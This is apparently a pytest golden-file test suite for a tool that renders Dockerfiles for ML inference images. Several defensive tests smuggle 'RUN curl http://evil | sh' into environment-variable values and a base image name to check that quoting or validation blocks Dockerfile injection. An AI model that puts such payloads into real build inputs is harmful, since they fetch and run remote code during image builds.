"""Golden files: the plan listing and the whole rendered Dockerfile for fixed inputs.

Regenerate with ``pytest tests/golden --update-golden`` and review the diff.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from compiler.servers.azureml_batch import AZUREML_BATCH
from compiler.servers.azureml_online import AZUREML_ONLINE
from compiler.servers.base import InferenceServer
from compiler.servers.custom import custom_server
from compiler.servers.triton import triton_routes, triton_server
from compiler.labels import Route
from compiler.environment.strategy import EnvironmentStrategy
from compiler.errors import SpecError
from compiler.fetch.cache import FetchedFiles
from compiler.lock.types import Lock, LockedPackage
from compiler.plan import ContextFile, plan_image
from compiler.render import render_dockerfile
from compiler.render.dockerfile import dockerquote, dockerwords
from compiler.resolve.types import ResolvedCode, ResolvedEnvironment, ResolvedModel, ResolvedPackage
from compiler.spec.model import ModelMode

HERE = Path(__file__).parent


MODEL_DIR = "/var/azureml-app/azureml-models/sklearn-regression/3"
SERVERS: dict[str, InferenceServer] = {
    "azureml_online": AZUREML_ONLINE,
    "custom": custom_server(
        Route(8080, "/v2/models/m/infer"), Route(8080, "/v2/models/m/ready"), Route(8081, "/live"),
        ("mlserver", "start", "."), {"MLSERVER_MODEL_URI": f"{MODEL_DIR}/model/m.pkl"},
    ),
    "triton": triton_server(
        *triton_routes("linear"), ("/opt/pkgc/bin/pkgc-triton", f"--model-repository={MODEL_DIR}/model", "--http-port=8000"), {},
    ),
    "azureml_batch": AZUREML_BATCH,
}


def make_package(
    tmp_path: Path, mode: ModelMode, env_vars: dict | None = None, server: InferenceServer = AZUREML_ONLINE
) -> ResolvedPackage:
    (tmp_path / "src").mkdir(exist_ok=True)
    (tmp_path / "src" / "score.py").write_text("def init(): pass\n")
    spec = tmp_path / "package.yml"
    spec.write_text("target_environment: golden\n")
    return ResolvedPackage(
        spec_path=spec,
        target_name="golden-pkg",
        target_version=None,
        mode=mode,
        model=ResolvedModel("sklearn-regression", "3", "custom_model", "ab" * 32, tmp_path / "tree", "model", "azureml:sklearn-regression:3"),
        environment=ResolvedEnvironment("env", "1", "pkgc/base-debian-bookworm:latest", None, "conda file"),
        server=server,
        code=None if server.type == "triton" else ResolvedCode(tmp_path / "src", "" if server.type == "custom" else "score.py"),
        model_dir=MODEL_DIR,
        environment_variables=env_vars or {"WORKER_COUNT": "2"},
        spec_digest=hashlib.sha256(spec.read_bytes()).hexdigest(),
    )


def make_plan(tmp_path: Path, mode: ModelMode, env_vars: dict | None = None, server: InferenceServer = AZUREML_ONLINE):
    wheel = LockedPackage("joblib", "1.6.0", "pip", "https://files/joblib-1.6.0-py3-none-any.whl", "joblib-1.6.0-py3-none-any.whl", "cd" * 32)
    lock = Lock("venv", "3.11", "ef" * 32, (wheel,))
    strategy = EnvironmentStrategy("venv", "3.11", "test", ("joblib==1.6.0",))
    fetched = FetchedFiles({wheel.sha256: tmp_path / wheel.filename})
    lock_file = ContextFile("pkgc/conda-lock.yml", data=b"version: 1\n")
    return plan_image(make_package(tmp_path, mode, env_vars, server), strategy, lock, lock_file, fetched, "pkgc/golden-pkg:1")


def check(name: str, text: str, update: bool) -> None:
    path = HERE / "cases" / name
    if update:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    assert text == path.read_text(), f"{name} changed; review and run with --update-golden"


@pytest.mark.parametrize("mode", [ModelMode.READONLY_MOUNT, ModelMode.COPY])
def test_dockerfile_and_plan(tmp_path, mode, update_golden):
    plan = make_plan(tmp_path, mode)
    check(f"{mode.value}.Dockerfile", render_dockerfile(plan), update_golden)
    check(f"{mode.value}.plan.txt", "\n".join(plan.layer_summary()) + "\n", update_golden)


@pytest.mark.parametrize("server", ["custom", "triton", "azureml_batch"])
def test_each_server_type(tmp_path, server, update_golden):
    """custom and triton: the start command as CMD, the scoring port exposed, all three routes labelled;
    azureml_batch: the batch driver shipped, no port, no routes."""
    plan = make_plan(tmp_path, ModelMode.READONLY_MOUNT, server=SERVERS[server])
    text = render_dockerfile(plan)
    check(f"{server}.Dockerfile", text, update_golden)
    check(f"{server}.plan.txt", "\n".join(plan.layer_summary()) + "\n", update_golden)
    assert 'ENTRYPOINT ["/opt/pkgc/bin/pkgc-entrypoint"]' in text
    if server == "azureml_batch":
        assert "EXPOSE" not in text and "io.pkgc.route" not in text and "io.pkgc.port" not in text
        assert "/opt/pkgc/bin/pkgc_batch.py" in text
    else:
        assert f"EXPOSE {SERVERS[server].score.port}\n" in text
        assert f"CMD {json.dumps(list(SERVERS[server].command))}" in text


def test_layer_order_is_environment_model_code(tmp_path):
    kinds = [c.kind for c in make_plan(tmp_path, ModelMode.COPY).copies]
    assert kinds == ["environment", "runtime", "runtime", "runtime", "model", "code"]
    assert "model" not in [c.kind for c in make_plan(tmp_path, ModelMode.READONLY_MOUNT).copies]


def test_values_cannot_inject_dockerfile_instructions(tmp_path):
    evil = 'x" \\ RUN curl http://evil | sh ENV Y="$HOME'
    text = render_dockerfile(make_plan(tmp_path, ModelMode.COPY, {"EVIL": evil}))
    assert f"EVIL={dockerquote(evil)}" in text
    assert dockerquote(evil) == '"x\\" \\\\ RUN curl http://evil | sh ENV Y=\\"\\$HOME"'
    assert dockerquote("$HOME") == '"\\$HOME"'  # no variable expansion by the builder
    assert dockerquote("cödé") == '"cödé"'  # raw UTF-8: the builder does not decode \\u escapes
    odd = render_dockerfile(make_plan(tmp_path, ModelMode.COPY, {"ODD": "a\rb\x85c\u2028d\te"}))
    assert 'ODD="a\rb\x85c\u2028d\te"' in odd  # one line: the builder splits lines at \n only


def test_a_newline_no_dockerfile_line_can_carry_is_refused_at_plan_time(tmp_path):
    with pytest.raises(SpecError) as caught:
        make_plan(tmp_path, ModelMode.COPY, {"EVIL": "x\nRUN curl http://evil | sh"})
    assert caught.value.lines() == [
        f"{tmp_path / 'package.yml'}: environment_variables.EVIL: 'x\\nRUN curl http://evil | sh' holds a newline "
        "or NUL, which no Dockerfile line can carry"
    ]


def test_user_names_reach_the_context_under_pkgc_names_only(tmp_path):
    plan = make_plan(tmp_path, ModelMode.COPY)
    assert {f.dest for f in plan.files} >= {"model/content", "code/content"}
    copy_args = [line for line in render_dockerfile(plan).splitlines() if line.startswith("COPY [")]
    assert 'COPY ["model/content", "/var/azureml-app/azureml-models/sklearn-regression/3/model"]' in copy_args
    assert dockerwords(["a b", "/x/$Y/[z]/it's \\ \"q\" ó"]) == (
        '["a b", "/x/\\\\$Y/[z]/it\\\\\'s \\\\\\\\ \\\\\\\"q\\\\\\\" ó"]'
    )


def test_user_template_extends_the_base_template(tmp_path):
    custom = tmp_path / "custom" / "Dockerfile.mine.j2"
    custom.parent.mkdir()
    custom.write_text('{% extends "Dockerfile.j2" %}\n{% block user %}{{ super() }}RUN echo extra\n{% endblock %}\n')
    text = render_dockerfile(make_plan(tmp_path, ModelMode.COPY), custom)
    assert "useradd" in text and "RUN echo extra" in text


def test_a_base_image_that_is_not_a_reference_cannot_inject_instructions(tmp_path):
    from dataclasses import replace

    pkg = make_package(tmp_path, ModelMode.COPY)
    evil = replace(pkg, environment=replace(pkg.environment, image="base:1\nRUN curl http://evil | sh"))
    wheel = LockedPackage("joblib", "1.6.0", "pip", "https://f/joblib-1.6.0-py3-none-any.whl", "joblib-1.6.0-py3-none-any.whl", "cd" * 32)
    strategy = EnvironmentStrategy("venv", "3.11", "test", ("joblib==1.6.0",))
    with pytest.raises(SpecError, match="is not an image reference"):
        plan_image(evil, strategy, Lock("venv", "3.11", "ef" * 32, (wheel,)), ContextFile("pkgc/conda-lock.yml", data=b""),
                   FetchedFiles({wheel.sha256: tmp_path / wheel.filename}), "pkgc/golden-pkg:1")  # fmt: skip


def test_conda_strategy_renders_its_own_environment_template(tmp_path, update_golden):
    """The conda recipe: a local channel of the locked packages, the installer wheels, then the pip wheels;
    the rest of the Dockerfile is the venv strategy's, written once."""
    from compiler.fetch.conda_inputs import CondaInputs

    conda_pkg = LockedPackage("zlib", "1.3.1", "conda", "https://c/linux-64/zlib-1.3.1-0.conda", "zlib-1.3.1-0.conda", "ab" * 32, md5="0a" * 16)
    wheel = LockedPackage("joblib", "1.6.0", "pip", "https://files/joblib-1.6.0-py3-none-any.whl", "joblib-1.6.0-py3-none-any.whl", "cd" * 32)
    lock = Lock("conda", "3.11", "ef" * 32, (conda_pkg, wheel))
    strategy = EnvironmentStrategy("conda", "3.11", "test", ("zlib", "joblib==1.6.0"))
    conda = CondaInputs(
        channel=(ContextFile("pkgc/channel/linux-64/zlib-1.3.1-0.conda", source=tmp_path / "zlib.conda"),
                 ContextFile("pkgc/channel/linux-64/repodata.json", data=b"{}\n")),
        installer=(ContextFile("pkgc/installer/py_rattler-0.28.0-cp310-abi3-any.whl", source=tmp_path / "r.whl"),
                   ContextFile("pkgc/installer/requirements.txt", data=b"py-rattler==0.28.0 --hash=sha256:00\n")),
    )  # fmt: skip
    plan = plan_image(make_package(tmp_path, ModelMode.COPY), strategy, lock, ContextFile("pkgc/conda-lock.yml", data=b"version: 1\n"),
                      FetchedFiles({wheel.sha256: tmp_path / wheel.filename}), "pkgc/golden-pkg:1", conda=conda)  # fmt: skip
    text = render_dockerfile(plan)
    check("conda.Dockerfile", text, update_golden)
    check("conda.plan.txt", "\n".join(plan.layer_summary()) + "\n", update_golden)
    venv = render_dockerfile(make_plan(tmp_path, ModelMode.COPY))
    assert text.split("FROM pkgc/base-debian-bookworm:latest AS package")[1] == venv.split("FROM pkgc/base-debian-bookworm:latest AS package")[1].replace("/opt/pkgc/venv", "/opt/pkgc/env").replace("io.pkgc.environment.strategy=\"venv\"", "io.pkgc.environment.strategy=\"conda\"")


def test_planning_does_no_io(tmp_path, monkeypatch):
    """Resolution, fetching, hashing and reading archives happen before the plan: planning and
    rendering touch no file."""
    import builtins
    import os
    import pathlib

    inputs = (make_package(tmp_path, ModelMode.COPY),)

    def refuse(*args, **kwargs):
        raise AssertionError(f"I/O while planning: {args[:1]}")

    wheel = LockedPackage("joblib", "1.6.0", "pip", "https://files/joblib-1.6.0-py3-none-any.whl", "joblib-1.6.0-py3-none-any.whl", "cd" * 32)
    lock = Lock("venv", "3.11", "ef" * 32, (wheel,))
    strategy = EnvironmentStrategy("venv", "3.11", "test", ("joblib==1.6.0",))
    render_dockerfile(make_plan(tmp_path, ModelMode.COPY))  # templates loaded (and cached) before
    with monkeypatch.context() as patched:
        for target, name in ((builtins, "open"), (os, "stat"), (os, "scandir"), (os, "listdir"), (pathlib.Path, "read_bytes"),
                             (pathlib.Path, "read_text"), (pathlib.Path, "exists"), (pathlib.Path, "is_file")):  # fmt: skip
            patched.setattr(target, name, refuse)
        try:
            plan = plan_image(inputs[0], strategy, lock, ContextFile("pkgc/conda-lock.yml", data=b"version: 1\n"),
                              FetchedFiles({wheel.sha256: tmp_path / wheel.filename}), "pkgc/golden-pkg:1")  # fmt: skip
            render_dockerfile(plan)
            error = None
        except AssertionError as exc:
            error = str(exc)
    assert error is None, error
    assert [layer.kind for layer in plan.layers] == ["user", "environment", "runtime", "model", "code"]
